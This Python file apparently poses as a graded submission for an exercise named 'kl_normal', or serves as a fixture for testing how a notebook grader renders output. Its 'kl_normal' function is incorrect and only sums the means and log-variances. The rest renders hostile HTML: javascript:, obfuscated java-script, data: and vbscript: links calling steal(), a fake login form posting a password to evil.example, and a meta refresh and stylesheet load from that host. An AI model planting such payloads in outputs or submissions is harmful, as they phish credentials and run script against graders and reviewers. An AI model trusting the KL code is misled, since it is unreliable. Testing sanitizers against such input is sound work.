"""Displays links that run code, and forms that send what the reader types.

Exercise: kl_normal
Outcome: graded
"""


def kl_normal(mu_q, logvar_q, mu_p, logvar_p):
    return mu_q.sum(1) + logvar_q.sum(1)


from IPython.display import HTML, display

for address in (
    "javascript:steal()",
    " java\nscript:steal()",
    "data:text/html,<script>steal()</script>",
    "vbscript:steal()",
):
    display(HTML(f"<a href='{address}'>your grade</a><img src='{address}'>"))
display(HTML("<form action='http://evil.example/'><input name='password'><button>log in</button></form>"))
display(
    HTML(
        "<meta http-equiv='refresh' content='0;url=http://evil.example/'><link rel='stylesheet' href='//evil.example/'>"
    )
)
